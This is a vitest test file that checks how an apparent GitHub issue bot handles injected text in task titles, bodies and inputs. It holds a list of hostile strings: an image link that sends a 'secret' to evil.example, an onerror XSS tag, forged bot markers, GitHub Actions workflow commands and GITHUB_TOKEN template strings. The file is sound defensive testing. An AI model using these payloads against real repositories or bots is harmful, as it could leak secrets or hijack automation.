import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { Directive } from '../../../src/domain/directive.ts';
import { readInbox } from '../../../src/flows/inbox.ts';
import { refuseTasks } from '../../../src/flows/tell.ts';
import { directive, stateWith } from '../../support/domain-samples.ts';
import { type ForgeStage, forgeStage } from '../../support/forge-context.ts';
import { taskBody } from '../../support/house-on-github.ts';

/** Where they are from stands in test/fixtures/injections.md. */
const collected = readFileSync(fileURLToPath(new URL('../../fixtures/injections.jsonl', import.meta.url)), 'utf8')
  .trim()
  .split('\n')
  .map((line): string => JSON.parse(line).text);

const own = [
  '<!-- steward:answer:task:1 -->',
  '@octo @everyone',
  '`@octo`',
  '![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)>',
  '### Directive\n\nsilent\n\n### Inputs\n\n```yaml\ntopic: forged\n```',
  '```\n### Directive\nsilent\n```',
  'sweep\nsilent',
  '../directives/silent',
  '::set-output name=crashed::true\n##[add-mask]x',
  '"topic": "x"\n"`@octo` <!-- steward:refused:task:2 -->": "y"',
  'topic: [@octo\n<!-- steward:x -->',
  '*`@octo`<!--',
  'x: &a [*a]',
  `\u202e\u0000\u001b[31m{{ github.token }} \${{ secrets.GITHUB_TOKEN }}`,
];
const hostile = [...collected, ...own];

const sweep = directive({ front: 'on: [task]', inputs: '- topic: string (required)' });
const silent = directive({ name: 'silent', front: 'every: 1d', inputs: '- topic: string' });
const directives: Directive[] = [sweep, silent];
const BODIES: [string, (text: string) => { title?: string; body: string }][] = [
  ['title', (text) => ({ title: text, body: taskBody('sweep', 'topic: "mine"') })],
  ['whole body', (text) => ({ body: text })],
  ['directive', (text) => ({ body: taskBody(text, 'topic: "mine"') })],
  ['input, quoted', (text) => ({ body: taskBody('sweep', `topic: ${JSON.stringify(text)}`) })],
  ['input, as it is', (text) => ({ body: taskBody('sweep', `topic: ${text}`) })],
  ['inputs', (text) => ({ body: taskBody('sweep', text) })],
  ['name of an input', (text) => ({ body: taskBody('sweep', `topic: "mine"\n${JSON.stringify(text)}: 1`) })],
];

/** Every text as a task of its own, all in one inbox. */
function filed(association: string, make: (text: string) => { title?: string; body: string }): ForgeStage {
  const stage = forgeStage();
  for (const text of hostile) stage.forge.openIssue('octo', { ...make(text), labels: ['steward:task'], association });
  return stage;
}

const readAll = (stage: ForgeStage) => {
  // A list holds a hundred; the rest comes when those are done.
  const { issues } = stage.forge;
  const pages = [issues.slice(0, 60), issues.slice(60)];
  return Promise.all(
    pages.map(async (page) => {
      const part = forgeStage();
      part.forge.issues.push(...page);
      const inbox = await readInbox(part.context, directives, stateWith({}));
      await refuseTasks(part.context, inbox);
      return { ...part, inbox, size: page.length };
    }),
  );
};

/** What GitHub would make of a text: code is no mention, no comment and no markup. */
const outsideCode = (markdown: string): string => markdown.replaceAll(/`[^`\n]+`/g, 'CODE');

describe.each(BODIES)('hostile text as %s', (place, make) => {
  it('picks one of the directives that take tasks at most, with inputs that it has', async () => {
    const parts = await readAll(filed('OWNER', make));
    for (const { inbox, size } of parts) {
      expect(inbox.requests.length + inbox.refusals.length).toBe(size);
      for (const { directive: name, params, origin } of inbox.requests) {
        expect(name).toBe('sweep');
        expect(Object.keys(params)).toEqual(['topic']);
        expect(typeof params.topic).toBe('string');
        expect(origin).toBe('task');
        if (place === 'title' || place === 'name of an input') expect(params.topic).toBe('mine');
      }
    }
    const total = parts.reduce((sum, { inbox }) => sum + inbox.requests.length, 0);
    if (place === 'title' || place === 'input, quoted') expect(total).toBe(hostile.length);
    if (place === 'name of an input' || place === 'whole body') expect(total).toBeLessThanOrEqual(1);
  });

  it('is told back without mention, marker, markup or command', async () => {
    for (const { forge, warnings, inbox } of await readAll(filed('OWNER', make))) {
      const told = forge.issues.flatMap(({ comments }) => comments.map(({ body }) => body));
      expect(told).toHaveLength(inbox.refusals.length);
      for (const [index, body] of told.entries()) {
        const marker = `<!-- steward:refused:${inbox.refusals[index]?.occurrence} -->`;
        expect(body.endsWith(`${marker}\n`)).toBe(true);
        const rest = body.slice(0, -marker.length - 1);
        expect(rest).not.toContain('<!-- steward:');
        expect(outsideCode(rest)).not.toMatch(/[@<>[\]!`#]|:\/\//);
        expect(body.length).toBeLessThan(6000);
      }
      expect(warnings.filter((text) => /\n/.test(text))).toEqual([]);
    }
  });

  it('of a stranger is left alone: nothing is done, nothing is written', async () => {
    for (const { forge, inbox, warnings } of await readAll(filed('NONE', make))) {
      expect(inbox).toMatchObject({ requests: [], refusals: [], unanswered: [] });
      expect(forge.issues.every(({ state, comments }) => state === 'open' && comments.length === 0)).toBe(true);
      expect(forge.calls.filter(({ operation }) => operation !== 'issues.list')).toEqual([]);
      expect(warnings).toEqual([]);
    }
  });
});
